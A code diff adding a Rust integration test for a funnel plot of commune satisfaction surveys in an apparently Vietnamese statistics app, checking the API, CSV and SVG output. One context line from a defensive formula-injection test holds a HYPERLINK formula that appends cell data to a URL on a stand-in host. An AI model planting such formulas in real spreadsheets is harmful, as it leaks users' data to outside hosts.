@@ -587,3 +587,74 @@ on_both_engines!(exports_write_stored_formulas_as_text, |engine: Engine| async m
     assert_eq!(cell, Data::String("=HYPERLINK(\"http://x.example/?\"&B2,\"Xem\")".into()));
     assert!(book.worksheet_formula("district_summary").unwrap().used_cells().next().is_none(), "no formulas");
 });
+
+/// A province after July 2025: five communes with ballots directly under it and one without.
+/// Centre 900 ÷ 1,000 = 90 %. For 100 ballots at p0 = 0.9 the contract's limits, summed
+/// apart in exact binomials, are 83.2281 / 94.9619 (95 %) and 79.1643 / 97.5821 (99.8 %);
+/// for 600 ballots 87.4519 / 92.2564 and 85.9460 / 93.4988. So 79 % is below, 80 % and 97 %
+/// within, 98 % above, and 91 % of 600 within.
+async fn funnel_province(engine: Engine) -> TestApp {
+    TestApp::spawn_with(engine, false, |db| async move {
+        let units = "code,name,level,parent_code,kind,valid_from\nP,Tỉnh Phễu,province,,tỉnh,\n\
+                     X1,Xã Dưới,commune,P,xã,2025-07-01\nX2,Xã Sát Dưới,commune,P,xã,2025-07-01\n\
+                     X3,Xã Sát Trên,commune,P,xã,2025-07-01\nX4,Xã Lớn,commune,P,xã,2025-07-01\n\
+                     X5,Xã Trên,commune,P,xã,2025-07-01\nX6,Xã Không Phiếu,commune,P,xã,2025-07-01\n";
+        let surveys = "unit_code,model_code,period,respondents,satisfied\n\
+                       X1,,2025-08,100,79\nX2,,2025-08,100,80\nX3,,2025-08,100,97\nX4,,2025-08,600,546\nX5,,2025-08,100,98\n";
+        let mut set = app::ssr::import::ImportSet::default();
+        set.units = Some(server::sources::parse_csv("units.csv", units.as_bytes(), &mut set.problems));
+        set.surveys = Some(server::sources::parse_csv("surveys.csv", surveys.as_bytes(), &mut set.problems).into());
+        app::ssr::import::import(&db, set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
+    })
+    .await
+}
+
+on_both_engines!(the_funnel_flags_units_beyond_chance_in_api_csv_and_chart, |engine: Engine| async move {
+    let app = funnel_province(engine).await;
+    let rows: serde_json::Value = app.get("/api/v1/figures/funnel?period=2025-08").await.json().await.unwrap();
+    let rows = rows.as_array().unwrap();
+    let codes: Vec<&str> = rows.iter().map(|r| r["unit_code"].as_str().unwrap()).collect();
+    assert_eq!(codes, ["X1", "X2", "X3", "X4", "X5"], "by code, none without ballots");
+    let flags: Vec<&str> = rows.iter().map(|r| r["flag"].as_str().unwrap()).collect();
+    assert_eq!(flags, ["below", "within", "within", "within", "above"]);
+    assert_eq!(
+        rows[0],
+        serde_json::json!({
+            "unit_code": "X1", "unit_name": "Xã Dưới", "respondents": 100, "satisfied": 79,
+            "satisfaction_rate": 79.0, "centre": 90.0, "lower_95": 83.23, "upper_95": 94.96,
+            "lower_998": 79.16, "upper_998": 97.58, "flag": "below"
+        })
+    );
+    let x4 = &rows[3];
+    assert_eq!((x4["lower_95"].as_f64(), x4["upper_95"].as_f64()), (Some(87.45), Some(92.26)));
+    assert_eq!((x4["lower_998"].as_f64(), x4["upper_998"].as_f64()), (Some(85.95), Some(93.5)));
+    // The CSV holds the same rows, in the contract's columns.
+    let csv = app.get("/charts/satisfaction-funnel.csv?period=2025-08").await.text().await.unwrap();
+    let mut lines = csv.lines();
+    assert_eq!(
+        lines.next().unwrap().trim_start_matches('\u{feff}'),
+        "unit_code,unit_name,respondents,satisfied,satisfaction_rate,centre,lower_95,upper_95,lower_998,upper_998,flag"
+    );
+    let csv_rows: Vec<Vec<String>> = lines.map(|l| l.split(',').map(str::to_string).collect()).collect();
+    assert_eq!(csv_rows.len(), rows.len());
+    for (line, row) in csv_rows.iter().zip(rows) {
+        assert_eq!(line[0], row["unit_code"].as_str().unwrap());
+        assert_eq!(line[2], row["respondents"].to_string());
+        for (i, column) in [(4, "satisfaction_rate"), (5, "centre"), (6, "lower_95"), (9, "upper_998")] {
+            assert_eq!(line[i].parse::<f64>().unwrap(), row[column].as_f64().unwrap(), "{column}");
+        }
+        assert_eq!(line[10], row["flag"].as_str().unwrap());
+    }
+    // The chart: a point per unit, the centre line, the 99.8 % pair solid, the flagged named.
+    let svg = app.get("/charts/satisfaction-funnel.svg?period=2025-08&lang=vi").await.text().await.unwrap();
+    assert_eq!(svg.matches("<circle").count(), 5, "{svg}");
+    assert_eq!(svg.matches("fill=\"#D55E00\"").count(), 1, "one below, in vermilion");
+    assert_eq!(svg.matches("fill=\"#009E73\"").count(), 1, "one above, in green");
+    assert_eq!(svg.matches("<polyline fill=\"none\" opacity=\"1\" stroke=\"#E69F00\"").count(), 3, "two limits and the legend's: {svg}");
+    assert!(svg.contains("Xã Dưới") && svg.contains("Xã Trên") && !svg.contains("Xã Lớn"), "only the flagged are named");
+    assert!(svg.contains("Chung 90,00%"));
+    // A district that is not one is refused by name.
+    let r = app.get("/api/v1/figures/funnel?period=2025-08&district=X1").await;
+    assert_eq!(r.status(), 400);
+    assert!(r.text().await.unwrap().contains("X1"));
+});
